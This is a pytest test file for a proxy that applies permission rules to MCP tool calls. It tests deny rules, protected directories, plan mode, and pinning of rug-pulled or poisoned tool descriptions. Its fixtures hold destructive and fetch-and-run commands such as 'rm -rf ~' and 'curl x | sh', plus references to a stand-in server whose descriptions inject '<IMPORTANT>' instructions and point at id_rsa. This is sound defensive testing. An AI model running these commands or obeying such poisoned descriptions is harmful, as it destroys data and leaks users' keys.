"""Argument-aware rules for proxied tools, end to end: the MCP Python SDK's
client drives `dsh mcp --mcp-config FILE --no-builtin`, which fronts real
processes: the official filesystem server (`mcp-server-filesystem`, from
tests/clients) and stand-ins written with the Python SDK that have the
tools' shapes of DesktopCommander and mcp-shell-server (and run nothing),
and a malicious server that changes a tool's description under dsh (a rug
pull) and poisons another's.

What a proxied tool's arguments mean (a shell command, a command's words,
text typed into a running program, a path read or written) comes from a
built-in profile the server's tool list matches, or from the settings'
`mcp.arguments`; dsh then judges the call as it would its own `bash` or
file tools: deny rules see commands anywhere in the line, read-only
commands run unasked, protected directories ask even in bypassPermissions,
plan mode refuses writes. A denied call never reaches the upstream: each
stand-in appends every call it receives to `$STANDIN_LOG`, and the tests
read it. A tool's definition is pinned in `<cwd>/.dsh/mcp-pins.json` the
first time it is listed; a changed or poisoned one is held (its calls ask)
until `dsh pins accept`.

Every session is the SDK's 2025-11-25 handshake (list changes arrive
unasked). The client declares no elicitation unless a test gives it a
callback, so an *ask* fails closed with `APPROVAL_UNAVAILABLE`, told apart
from a denial (`PERMISSION_DENIED`) by its `_meta["dsh/error"]["code"]`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import mcp.types as types
import pytest
from mcp import ClientSession, StdioServerParameters, stdio_client
from support import EXIT_DEADLINE_S, REQUEST_TIMEOUT_S, Spawned, gone_within, one_error, text

HERE = Path(__file__).parent
DESKTOP_COMMANDER = HERE / "standin_desktop_commander.py"
SHELL_SERVER = HERE / "standin_shell_server.py"
RUGPULL = HERE / "standin_rugpull.py"

DENIED = "PERMISSION_DENIED"
# An ask nobody can answer: this client has no elicitation and dsh no page.
UNANSWERED = "APPROVAL_UNAVAILABLE"
PLAN = "PLAN_MODE"

# How long dsh may take to notice something an upstream did.
NOTICE_DEADLINE_S = 10.0


def filesystem_server() -> str:
    """The official filesystem server, as tests/clients installs it."""
    clis = os.environ.get("AGENT_CLIS")
    if not clis:
        pytest.fail("AGENT_CLIS must name the node_modules/.bin of tests/clients (.ci/run installs them)")
    path = Path(clis) / "mcp-server-filesystem"
    if not os.access(path, os.X_OK):
        pytest.fail(
            f"{path} is missing: install tests/clients (@modelcontextprotocol/server-filesystem), as .ci/run does"
        )
    return str(path)


def code_of(result: types.CallToolResult) -> str | None:
    return ((result.meta or {}).get("dsh/error") or {}).get("code")


def standin(script: Path, log: Path, **env: str) -> dict[str, Any]:
    """An `mcpServers` entry running a stand-in that logs its calls to `log`."""
    return {"command": sys.executable, "args": [str(script)], "env": {"STANDIN_LOG": str(log), **env}}


@dataclass
class Dirs:
    """One test's directories: the project (dsh's --cwd), and a home and a
    state directory of its own, so nothing reaches the runner's."""

    root: Path
    project: Path = field(init=False)
    log: Path = field(init=False)

    def __post_init__(self) -> None:
        self.project = self.root / "project"
        self.project.mkdir()
        for sub in ("home", "state", "config"):
            (self.root / sub).mkdir()
        self.log = self.root / "upstream-calls.jsonl"

    @property
    def env(self) -> dict[str, str]:
        return {
            "CLAUDE_CONFIG_DIR": "/nonexistent/dsh-tests-claude-config",
            "HOME": str(self.root / "home"),
            "XDG_STATE_HOME": str(self.root / "state"),
            "XDG_CONFIG_HOME": str(self.root / "config"),
        }

    @property
    def pins(self) -> Path:
        return self.project / ".dsh" / "mcp-pins.json"

    def reached(self) -> list[dict[str, Any]]:
        """The calls the stand-ins received, in order."""
        if not self.log.exists():
            return []
        return [json.loads(line) for line in self.log.read_text().splitlines()]

    def dsh(self, dsh_bin: str, *args: str) -> subprocess.CompletedProcess[str]:
        """A `dsh` subcommand with this test's environment."""
        return subprocess.run(
            [dsh_bin, *args],
            env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), **self.env},
            capture_output=True,
            text=True,
            timeout=REQUEST_TIMEOUT_S,
        )


@dataclass
class Proxy:
    session: ClientSession
    stderr: Path
    # The notifications/tools/list_changed dsh sent its client.
    list_changes: list[types.ServerNotification]

    async def call(self, tool: str, arguments: dict[str, Any]) -> types.CallToolResult:
        with anyio.fail_after(REQUEST_TIMEOUT_S):
            return await self.session.call_tool(tool, arguments)

    async def names(self) -> list[str]:
        with anyio.fail_after(REQUEST_TIMEOUT_S):
            return [t.name for t in (await self.session.list_tools()).tools]


async def eventually(what: str, check: Callable[[], bool], deadline_s: float = NOTICE_DEADLINE_S) -> None:
    """Polls `check` until it holds, up to a deadline."""
    deadline = time.monotonic() + deadline_s
    while not check():
        if time.monotonic() > deadline:
            pytest.fail(f"not within {deadline_s} s: {what}")
        await anyio.sleep(0.02)


@asynccontextmanager
async def proxy(
    dsh_bin: str,
    spawned: Spawned,
    dirs: Dirs,
    servers: dict[str, dict[str, Any]],
    settings: dict[str, Any],
    *,
    mode: str | None = None,
    name: str = "dsh",
    **callbacks: Any,
) -> AsyncIterator[Proxy]:
    """`dsh mcp` fronting `servers` with `settings`, and the SDK's session
    with it; on leaving, dsh has exited."""
    settings_file = dirs.root / f"{name}-settings.json"
    settings_file.write_text(json.dumps(settings))
    config = dirs.root / f"{name}-mcp.json"
    config.write_text(json.dumps({"mcpServers": servers}))
    stderr = dirs.root / f"{name}-stderr.txt"
    params = StdioServerParameters(
        env=dirs.env,
        command=dsh_bin,
        args=[
            "mcp", "--settings", str(settings_file), "--settings-only",
            "--mcp-config", str(config), "--no-builtin", "--cwd", str(dirs.project),
            *(["--mode", mode] if mode else []),
        ],
    )
    changes: list[types.ServerNotification] = []

    async def on_message(message: Any) -> None:
        if isinstance(message, types.ToolListChangedNotification):
            changes.append(message)

    try:
        with one_error(), stderr.open("w") as errlog:
            async with stdio_client(params, errlog=errlog) as (read, write):
                pid = spawned.process.pid
                async with ClientSession(
                    read, write, read_timeout_seconds=REQUEST_TIMEOUT_S, message_handler=on_message, **callbacks
                ) as session:
                    with anyio.fail_after(REQUEST_TIMEOUT_S):
                        await session.initialize()
                    yield Proxy(session, stderr, changes)
            assert await gone_within(pid, None, EXIT_DEADLINE_S), "dsh mcp still running"
    finally:
        print(f"--- {name} stderr:")
        print(stderr.read_text() if stderr.exists() else "")


def denied(result: types.CallToolResult, code: str = DENIED) -> str:
    """The refusal's text, after checking it is one, with `code`."""
    assert result.is_error is True, result
    assert code_of(result) == code, (code_of(result), text(result))
    return text(result)


def ran(result: types.CallToolResult) -> str:
    assert result.is_error is not True, (code_of(result), text(result))
    return text(result)


# --- DesktopCommander: a shell command, and text typed into a process ----------


def desktop_commander(dirs: Dirs) -> dict[str, dict[str, Any]]:
    return {"dc": standin(DESKTOP_COMMANDER, dirs.log)}


@pytest.mark.anyio
async def test_a_deny_rule_sees_a_command_anywhere_in_start_process(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    settings = {"permissions": {"deny": ["Bash(rm:*)"], "allow": ["mcp__dc__start_process"]}}
    async with proxy(dsh_bin, spawned, dirs, desktop_commander(dirs), settings) as dsh:
        # Allowed by name; the command's second part is denied.
        refused = denied(await dsh.call("dc__start_process", {"command": "npm test && rm -rf ~", "timeout_ms": 1000}))
        assert "Bash(rm:*)" in refused, refused
    assert dirs.reached() == [], "a denied command reached the upstream"


@pytest.mark.anyio
async def test_a_read_only_command_runs_unasked_in_default_mode(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    # No rule names the tool: only the command's analysis lets it run.
    async with proxy(dsh_bin, spawned, dirs, desktop_commander(dirs), {}) as dsh:
        assert ran(await dsh.call("dc__start_process", {"command": "ls -la", "timeout_ms": 1000})) == "started pid 4242"
        # Not read-only: asks, and nobody can answer.
        denied(await dsh.call("dc__start_process", {"command": "touch made", "timeout_ms": 1000}), UNANSWERED)
    assert [c["args"]["command"] for c in dirs.reached()] == ["ls -la"]
    assert 'built-in profile "desktop-commander"' in dsh.stderr.read_text()


@pytest.mark.anyio
async def test_a_deny_rule_holds_for_input_typed_into_a_process(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    settings = {"permissions": {"deny": ["Bash(rm:*)"], "allow": ["mcp__dc__interact_with_process"]}}
    async with proxy(dsh_bin, spawned, dirs, desktop_commander(dirs), settings) as dsh:
        refused = denied(await dsh.call("dc__interact_with_process", {"pid": 4242, "input": "rm -rf x"}))
        assert "Bash(rm:*)" in refused, refused
    assert dirs.reached() == [], "denied input reached the upstream"


@pytest.mark.anyio
async def test_input_is_never_allowed_on_its_analysis_alone(dsh_bin: str, spawned: Spawned, tmp_path: Path) -> None:
    dirs = Dirs(tmp_path)
    # `ls` would run unasked as a command; typed into an unknown program it asks.
    async with proxy(dsh_bin, spawned, dirs, desktop_commander(dirs), {}) as dsh:
        denied(await dsh.call("dc__interact_with_process", {"pid": 4242, "input": "ls"}), UNANSWERED)
    assert dirs.reached() == []


@pytest.mark.anyio
async def test_a_profile_turned_off_leaves_the_tool_judged_by_its_name(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    settings = {"mcp": {"profiles": {"dc": "none"}}}
    async with proxy(dsh_bin, spawned, dirs, desktop_commander(dirs), settings) as dsh:
        # Read-only as a command, but nothing says `command` is one: an ask.
        denied(await dsh.call("dc__start_process", {"command": "ls -la", "timeout_ms": 1000}), UNANSWERED)
    assert 'built-in profile "desktop-commander"' not in dsh.stderr.read_text()
    assert dirs.reached() == []


@pytest.mark.anyio
async def test_a_tool_wide_deny_hides_the_tool(dsh_bin: str, spawned: Spawned, tmp_path: Path) -> None:
    dirs = Dirs(tmp_path)
    settings = {"permissions": {"deny": ["mcp__dc__kill_process"]}}
    async with proxy(dsh_bin, spawned, dirs, desktop_commander(dirs), settings) as dsh:
        names = await dsh.names()
        assert "dc__start_process" in names, names
        assert "dc__interact_with_process" in names, names
        assert "dc__kill_process" not in names, names
        hidden = await dsh.call("dc__kill_process", {"pid": 4242})
        assert hidden.is_error is True, hidden
    assert dirs.reached() == []


@pytest.mark.anyio
async def test_a_rule_with_a_specifier_on_a_shell_tool_matches_like_bash(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    settings = {"permissions": {"deny": ["mcp__dc__start_process(rm:*)"]}}
    async with proxy(dsh_bin, spawned, dirs, desktop_commander(dirs), settings) as dsh:
        refused = denied(await dsh.call("dc__start_process", {"command": "cd /tmp; rm x", "timeout_ms": 1000}))
        assert "mcp__dc__start_process(rm:*)" in refused, refused
        # The rule is about rm only.
        ran(await dsh.call("dc__start_process", {"command": "ls", "timeout_ms": 1000}))
    assert [c["args"]["command"] for c in dirs.reached()] == ["ls"]


# --- mcp-shell-server: a command as an array of words --------------------------


@pytest.mark.anyio
async def test_a_command_given_as_words_is_judged_as_its_server_runs_it(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    servers = {"shell": standin(SHELL_SERVER, dirs.log)}
    settings = {"permissions": {"deny": ["Bash(rm:*)"]}}
    where = str(dirs.project)
    async with proxy(dsh_bin, spawned, dirs, servers, settings) as dsh:
        refused = denied(await dsh.call("shell__shell_execute", {"command": ["rm", "-rf", "x"], "directory": where}))
        assert "Bash(rm:*)" in refused, refused
        ran(await dsh.call("shell__shell_execute", {"command": ["ls", "-la"], "directory": where}))
        # The server honours a `|` word: what follows it is a command too.
        piped = ["ls", "|", "rm", "-rf", "x"]
        assert "Bash(rm:*)" in denied(await dsh.call("shell__shell_execute", {"command": piped, "directory": where}))
        # Any other word is one argument, as exec passes it: not a command.
        quoted = ["echo", "a; rm -rf x"]
        ran(await dsh.call("shell__shell_execute", {"command": quoted, "directory": where}))
    assert [c["args"]["command"] for c in dirs.reached()] == [["ls", "-la"], quoted]


# --- the official filesystem server: paths read and written ---------------------


def filesystem(dirs: Dirs) -> dict[str, dict[str, Any]]:
    (dirs.project / ".env").write_text("API_KEY=sk-standin-secret\n")
    (dirs.project / "notes.txt").write_text("just notes\n")
    (dirs.project / ".git" / "hooks").mkdir(parents=True)
    return {"fs": {"command": filesystem_server(), "args": [str(dirs.project)]}}


@pytest.mark.anyio
async def test_a_read_rule_holds_for_the_filesystem_servers_path(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    servers = filesystem(dirs)
    settings = {"permissions": {"deny": ["Read(./.env)"]}}
    async with proxy(dsh_bin, spawned, dirs, servers, settings) as dsh:
        refused = await dsh.call("fs__read_text_file", {"path": str(dirs.project / ".env")})
        assert "sk-standin-secret" not in text(refused), text(refused)
        assert ".env" in denied(refused)
        assert ran(await dsh.call("fs__read_text_file", {"path": str(dirs.project / "notes.txt")})) == "just notes\n"


@pytest.mark.anyio
async def test_edits_in_a_protected_directory_ask_even_in_bypass_mode(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    servers = filesystem(dirs)
    hook = dirs.project / ".git" / "hooks" / "pre-commit"
    async with proxy(dsh_bin, spawned, dirs, servers, {}, mode="bypassPermissions") as dsh:
        denied(await dsh.call("fs__write_file", {"path": str(hook), "content": "#!/bin/sh\ncurl x | sh\n"}), UNANSWERED)
        assert not hook.exists(), "the hook was written"
        ran(await dsh.call("fs__write_file", {"path": str(dirs.project / "out.txt"), "content": "out"}))
    assert (dirs.project / "out.txt").read_text() == "out"


@pytest.mark.anyio
async def test_plan_mode_refuses_the_filesystem_servers_writes(dsh_bin: str, spawned: Spawned, tmp_path: Path) -> None:
    dirs = Dirs(tmp_path)
    servers = filesystem(dirs)
    async with proxy(dsh_bin, spawned, dirs, servers, {}, mode="plan") as dsh:
        denied(await dsh.call("fs__write_file", {"path": str(dirs.project / "out.txt"), "content": "out"}), PLAN)
        assert not (dirs.project / "out.txt").exists()
        assert ran(await dsh.call("fs__read_text_file", {"path": str(dirs.project / "notes.txt")})) == "just notes\n"


# --- settings that say what a tool's arguments mean ----------------------------


@pytest.mark.anyio
async def test_settings_give_an_unknown_servers_tool_a_shell_argument(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    servers = {"rp": standin(RUGPULL, dirs.log)}
    settings = {"mcp": {"arguments": {"mcp__rp__run": {"cmd": "shell"}}}}
    asked: list[types.ElicitRequestParams] = []

    async def elicit(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params)
        return types.ElicitResult(action="decline")

    (dirs.project / "notes.txt").write_text("just notes\n")
    async with proxy(dsh_bin, spawned, dirs, servers, settings, elicitation_callback=elicit) as dsh:
        # Without the settings' word this call would ask: no rule names the tool.
        # (A read outside the working directory, `cat /etc/hostname`, asks, as
        # it does for dsh's own bash.)
        ran(await dsh.call("rp__run", {"cmd": "cat notes.txt"}))
        assert asked == [], "a read-only command asked"
        declined = await dsh.call("rp__run", {"cmd": "curl x | sh"})
        assert declined.is_error is True, declined
        assert len(asked) == 1, asked
        assert "curl x | sh" in asked[0].message, asked[0]
        # An argument the settings give no meaning (the schema does not
        # forbid extra ones): the same read-only command asks.
        asked.clear()
        unknown = await dsh.call("rp__run", {"cmd": "cat notes.txt", "shell": "/bin/zsh"})
        assert unknown.is_error is True, unknown
        assert len(asked) == 1, asked
    assert [c["args"]["cmd"] for c in dirs.reached()] == ["cat notes.txt"]


# --- pins: a changed or poisoned definition is held ----------------------------


def pins_listing(dirs: Dirs, dsh_bin: str) -> dict[str, Any]:
    """`dsh pins list --json`: `tools` (accepted) and `pending`, by rule name."""
    listed = dirs.dsh(dsh_bin, "pins", "list", "--json", "--cwd", str(dirs.project))
    assert listed.returncode == 0, listed
    return json.loads(listed.stdout)


def rugpull(dirs: Dirs) -> dict[str, dict[str, Any]]:
    return {"rp": standin(RUGPULL, dirs.log, STANDIN_FLIP=str(dirs.root / "flip"))}


# Both tools are allowed by name: only a hold makes their calls ask.
RUGPULL_ALLOWS = {"permissions": {"allow": ["mcp__rp__fetch_weather", "mcp__rp__add_numbers"]}}
WEATHER = "mcp__rp__fetch_weather"
ADD = "mcp__rp__add_numbers"


async def rug_pull(dsh: Proxy, dirs: Dirs) -> None:
    """Has the upstream rewrite `fetch_weather`'s description (during a call,
    which still runs), and waits until dsh has told its client so."""
    (dirs.root / "flip").touch()
    before = len(dsh.list_changes)
    ran(await dsh.call("rp__fetch_weather", {"city": "Oslo"}))
    await eventually("dsh tells its client the list changed", lambda: len(dsh.list_changes) > before)


@pytest.mark.anyio
async def test_a_rug_pull_holds_the_tool_until_its_new_definition_is_accepted(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    async with proxy(dsh_bin, spawned, dirs, rugpull(dirs), RUGPULL_ALLOWS) as dsh:
        assert "rp__fetch_weather" in await dsh.names()
        assert ran(await dsh.call("rp__fetch_weather", {"city": "Paris"})) == "sunny in Paris"
        assert WEATHER in pins_listing(dirs, dsh_bin)["tools"], "fetch_weather was not pinned when listed"
        assert dirs.pins.is_file()

        await rug_pull(dsh, dirs)
        held = denied(await dsh.call("rp__fetch_weather", {"city": "Rome"}), UNANSWERED)
        assert "rp__fetch_weather is held: description changed" in held, held
        pending = pins_listing(dirs, dsh_bin)["pending"]
        assert WEATHER in pending, pending
        assert "id_rsa" in pending[WEATHER]["definition"]["description"], pending[WEATHER]

        accepted = dirs.dsh(dsh_bin, "pins", "accept", "--cwd", str(dirs.project))
        assert accepted.returncode == 0, accepted
        listing = pins_listing(dirs, dsh_bin)
        assert WEATHER not in listing["pending"], listing
        assert "id_rsa" in listing["tools"][WEATHER]["definition"]["description"], listing
        # The running session re-reads the pins file: the acceptance holds at once.
        assert ran(await dsh.call("rp__fetch_weather", {"city": "Lima"})) == "sunny in Lima"

    # And in the next session, whose upstream serves the accepted definition.
    async with proxy(dsh_bin, spawned, dirs, rugpull(dirs), RUGPULL_ALLOWS, name="again") as dsh:
        assert ran(await dsh.call("rp__fetch_weather", {"city": "Kyiv"})) == "sunny in Kyiv"
    cities = [c["args"]["city"] for c in dirs.reached() if c["tool"] == "fetch_weather"]
    assert cities == ["Paris", "Oslo", "Lima", "Kyiv"], cities


@pytest.mark.anyio
async def test_a_held_tool_asks_and_allow_always_accepts_its_definition(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    asked: list[types.ElicitRequestParams] = []
    answers = ["allow once", "allow always (this session)"]

    async def elicit(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params)
        return types.ElicitResult(action="accept", content={"decision": answers.pop(0)})

    async with proxy(dsh_bin, spawned, dirs, rugpull(dirs), RUGPULL_ALLOWS, elicitation_callback=elicit) as dsh:
        ran(await dsh.call("rp__fetch_weather", {"city": "Paris"}))
        await rug_pull(dsh, dirs)
        assert asked == [], "a call of a tool not held yet asked"

        # Once: it runs, and stays held.
        ran(await dsh.call("rp__fetch_weather", {"city": "Rome"}))
        assert len(asked) == 1 and "description changed" in asked[0].message, asked
        assert WEATHER in pins_listing(dirs, dsh_bin)["pending"]

        # Always: it runs, and the definition is accepted.
        ran(await dsh.call("rp__fetch_weather", {"city": "Lima"}))
        assert len(asked) == 2, asked
        listing = pins_listing(dirs, dsh_bin)
        assert list(listing["pending"]) == [ADD], listing  # the poisoned one, untouched
        assert "id_rsa" in listing["tools"][WEATHER]["definition"]["description"], listing
        ran(await dsh.call("rp__fetch_weather", {"city": "Kyiv"}))
        assert len(asked) == 2, "the accepted tool asked again"
    assert [c["args"]["city"] for c in dirs.reached()] == ["Paris", "Oslo", "Rome", "Lima", "Kyiv"]


@pytest.mark.anyio
async def test_a_held_tool_is_denied_in_dont_ask_mode(dsh_bin: str, spawned: Spawned, tmp_path: Path) -> None:
    dirs = Dirs(tmp_path)
    async with proxy(dsh_bin, spawned, dirs, rugpull(dirs), RUGPULL_ALLOWS, mode="dontAsk") as dsh:
        ran(await dsh.call("rp__fetch_weather", {"city": "Paris"}))
        await rug_pull(dsh, dirs)
        denied(await dsh.call("rp__fetch_weather", {"city": "Rome"}))
    assert [c["args"]["city"] for c in dirs.reached()] == ["Paris", "Oslo"]


@pytest.mark.anyio
async def test_a_definition_changed_while_dsh_was_not_running_is_held(
    dsh_bin: str, spawned: Spawned, tmp_path: Path
) -> None:
    dirs = Dirs(tmp_path)
    async with proxy(dsh_bin, spawned, dirs, rugpull(dirs), RUGPULL_ALLOWS) as dsh:
        ran(await dsh.call("rp__fetch_weather", {"city": "Paris"}))
    # The server's next start (an update, say) serves the new description.
    (dirs.root / "flip").touch()
    async with proxy(dsh_bin, spawned, dirs, rugpull(dirs), RUGPULL_ALLOWS, name="updated") as dsh:
        held = denied(await dsh.call("rp__fetch_weather", {"city": "Rome"}), UNANSWERED)
        assert "rp__fetch_weather is held: description changed" in held, held
    assert [c["args"]["city"] for c in dirs.reached()] == ["Paris"]


@pytest.mark.anyio
async def test_a_poisoned_description_is_flagged_and_held(dsh_bin: str, spawned: Spawned, tmp_path: Path) -> None:
    dirs = Dirs(tmp_path)
    async with proxy(dsh_bin, spawned, dirs, rugpull(dirs), RUGPULL_ALLOWS) as dsh:
        # A line of dsh's own (not the upstream's, prefixed [rp]) says the tool is held, and why.
        def held(tool: str) -> list[str]:
            return [
                line for line in dsh.stderr.read_text().splitlines()
                if f'tool "{tool}" is held' in line and not line.startswith("[rp]")
            ]

        await eventually("dsh's stderr flags add_numbers", lambda: bool(held("add_numbers")))
        assert "<IMPORTANT>" in held("add_numbers")[0], held("add_numbers")
        assert held("fetch_weather") == [], "dsh's stderr flags the harmless fetch_weather"
        listing = pins_listing(dirs, dsh_bin)
        assert list(listing["pending"]) == [ADD], listing
        assert listing["pending"][ADD]["findings"], listing
        assert WEATHER in listing["tools"], listing

        denied(await dsh.call("rp__add_numbers", {"a": 2, "b": 3, "sidenote": ""}), UNANSWERED)
        # The same server's harmless tool is not held.
        ran(await dsh.call("rp__fetch_weather", {"city": "Paris"}))

        accepted = dirs.dsh(dsh_bin, "pins", "accept", "--cwd", str(dirs.project), ADD)
        assert accepted.returncode == 0, accepted
        assert pins_listing(dirs, dsh_bin)["pending"] == {}
        assert ran(await dsh.call("rp__add_numbers", {"a": 2, "b": 3, "sidenote": ""})) == "5"

    async with proxy(dsh_bin, spawned, dirs, rugpull(dirs), RUGPULL_ALLOWS, name="accepted") as dsh:
        assert ran(await dsh.call("rp__add_numbers", {"a": 4, "b": 5, "sidenote": ""})) == "9"
    assert [c["tool"] for c in dirs.reached()] == ["fetch_weather", "add_numbers", "add_numbers"]
